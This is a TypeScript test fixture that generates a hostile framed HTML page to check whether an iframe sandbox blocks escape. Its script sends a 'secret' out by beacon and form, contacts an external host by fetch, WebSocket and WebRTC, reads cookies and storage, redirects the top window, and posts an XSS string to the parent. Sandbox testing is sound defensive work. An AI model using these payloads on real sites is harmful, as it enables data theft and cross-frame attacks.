/**
 * A framed document that tries to escape: through the page, its storage and cookies, all kinds of network access, new
 * windows. Not by WebRTC from a nested frame, which crashes Chromium 156. Records each attempt's outcome, `done` last.
 */
export function hostileDocument({ host, datagramHost }: { host: string; datagramHost: string }): string {
  return `<p id="outcome">nothing yet</p>
<a id="link" href="http://${host}/link" target="_blank">link</a>
<form id="form" action="http://${host}/form"><input name="secret" value="1"></form>
<img src="http://${host}/img"><link rel="stylesheet" href="http://${host}/style">
<link rel="preconnect" href="http://${host}"><link rel="prefetch" href="http://${host}/prefetch">
<style>@import "http://${host}/import"; body { background: url(http://${host}/background) }</style>
<iframe src="http://${host}/frame"></iframe><object data="http://${host}/object"></object>
<video src="http://${host}/video"></video><script src="http://${host}/script"></script>
<script type="speculationrules">{"prefetch":[{"urls":["http://${host}/rule"],"eagerness":"immediate"}]}</script>
<script>
const outcomes = {};
const attempt = async (name, act) => {
  try { outcomes[name] = 'reached: ' + String(await act()); } catch (error) { outcomes[name] = error.name; }
};
const peers = () => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${datagramHost}' }] });
  peer.createDataChannel('x');
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer)).then(() => 'asked');
};
const opening = (socket) => new Promise((resolve, reject) => {
  socket.onopen = () => resolve('open');
  socket.onerror = () => reject(new TypeError('refused'));
});
(async () => {
  await attempt('parent document', () => parent.document.title);
  await attempt('top location', () => { top.location = 'http://${host}/top'; });
  await attempt('cookie', () => document.cookie);
  await attempt('local storage', () => localStorage.length);
  await attempt('session storage', () => sessionStorage.length);
  await attempt('database', () => new Promise((resolve, reject) => {
    const request = indexedDB.open('x');
    request.onsuccess = resolve;
    request.onerror = () => reject(request.error);
  }));
  await attempt('caches', () => caches.keys());
  await attempt('service worker', () => navigator.serviceWorker.register('/x.js'));
  await attempt('worker', () => opening(new Worker('data:text/javascript,postMessage(1)')));
  await attempt('fetch site', () => fetch('/health').then((answer) => answer.status));
  await attempt('fetch elsewhere', () => fetch('http://${host}/fetch', { mode: 'no-cors' }));
  await attempt('socket', () => opening(new WebSocket('ws://${host}/socket')));
  await attempt('events', () => opening(new EventSource('http://${host}/events')));
  navigator.sendBeacon('http://${host}/beacon', 'secret');
  new Image().src = 'http://${host}/image';
  const window2 = open('http://${host}/popup');
  outcomes.popup = String(window2);
  alert(1);
  document.getElementById('link').click();
  document.getElementById('form').submit();
  const inner = document.createElement('iframe');
  inner.srcdoc = '<script>fetch("http://${host}/inner-fetch", { mode: "no-cors" })</scr' + 'ipt><img src="http://${host}/inner">';
  document.body.append(inner);
  await peers().catch(() => {});
  for (const frameHeight of [1e9, -1, NaN, '900', null]) parent.postMessage({ frameHeight }, '*');
  parent.postMessage('<img src=x onerror=alert(1)>', '*');
  outcomes.done = 'true';
  document.getElementById('outcome').textContent = JSON.stringify(outcomes);
})();
</script>`;
}
